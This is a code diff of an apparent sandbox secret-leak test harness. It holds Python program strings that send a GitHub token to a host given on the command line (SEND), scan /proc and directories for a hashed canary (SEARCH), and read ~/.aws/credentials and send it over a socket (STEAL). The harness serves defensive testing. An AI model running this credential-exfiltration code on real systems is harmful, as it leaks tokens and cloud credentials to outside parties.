@@ -1,4 +1,4 @@
-"""Programs that run inside and do with a secret what must not come off. Each ends with a word, unless it is stopped.
+"""Programs that run inside and do with a secret what must not come off. `ENDED` is what is said after them.
 
 They never hold a canary: what a variable has is put in where a text says TOKEN, and what is searched for is a hash.
 """
@@ -6,36 +6,37 @@ They never hold a canary: what a variable has is put in where a text says TOKEN,
 from __future__ import annotations
 
 ENDED = "came to its end"
-# SEND place port text…: each text is a request, with \r\n spelled out. Prints the answers.
-SEND = rf"""
-import base64, os, socket, sys
+# place, and as JSON pairs of a port and the requests for it, with \r\n spelled out. Prints the answers.
+SEND = r"""
+import base64, json, os, socket, sys
 token = os.environ.get("GITHUB_TOKEN", "")
 basic = base64.b64encode(("user:" + token).encode()).decode()
-for text in sys.argv[3:]:
-    request = text.replace("TOKEN", token).replace("BASIC", basic).encode().decode("unicode_escape").encode()
-    try:
-        with socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5) as ours:
-            ours.sendall(request)
-            while True:
-                came = ours.recv(65536)
-                if not came:
-                    break
-                sys.stdout.write(came.decode(errors="replace"))
-    except OSError as error:
-        print(error)
-print("\n{ENDED}")
+for port, texts in json.loads(sys.argv[2]):
+    for text in texts:
+        request = text.replace("TOKEN", token).replace("BASIC", basic).encode().decode("unicode_escape").encode()
+        try:
+            with socket.create_connection((sys.argv[1], port), timeout=5) as ours:
+                ours.sendall(request)
+                while True:
+                    came = ours.recv(65536)
+                    if not came:
+                        break
+                    sys.stdout.write(came.decode(errors="replace"))
+        except OSError as error:
+            print(error)
+print()
 """
-# SEARCH hash directory…: where there is a canary with that hash, in files and in what processes show of themselves.
-SEARCH = rf"""
+# After those two, a hash and directories: where there is a canary with that hash, in files and in what processes show.
+SEARCH = r"""
 import hashlib, os, re, sys
-wanted, *tops = sys.argv[1:]
+wanted, *tops = sys.argv[3:]
 def look(path):
     try:
         with open(os.open(path, os.O_RDONLY | os.O_NONBLOCK), "rb") as file:
             content = file.read(1 << 20) or b""
     except OSError:
         return
-    if any(hashlib.sha256(found).hexdigest() == wanted for found in re.findall(rb"canary-[0-9a-f]{{32}}", content)):
+    if any(hashlib.sha256(found).hexdigest() == wanted for found in re.findall(rb"canary-[0-9a-f]{32}", content)):
         print("read", path)
 for pid in filter(str.isdigit, os.listdir("/proc")):
     for name in ("environ", "cmdline", "mountinfo"):
@@ -44,10 +45,9 @@ for top in tops:
     for directory, _, names in os.walk(top):
         for name in names:
             look(os.path.join(directory, name))
-print("{ENDED}")
 """
-# STEAL place port: sends a file of the home to a service, and goes on.
-STEAL = rf"""
+# place, port, seconds: sends a file of the home to a service, and goes on.
+STEAL = r"""
 import os, socket, sys, time
 print("began", flush=True)
 content = open(os.environ["HOME"] + "/.aws/credentials", "rb").read()
@@ -59,7 +59,6 @@ try:
 except OSError:
     pass
 time.sleep(float(sys.argv[3]))
-print("{ENDED}")
 """
 # For the shell: git is told to keep what the variable holds, in the repository and in the home.
 STORE = """
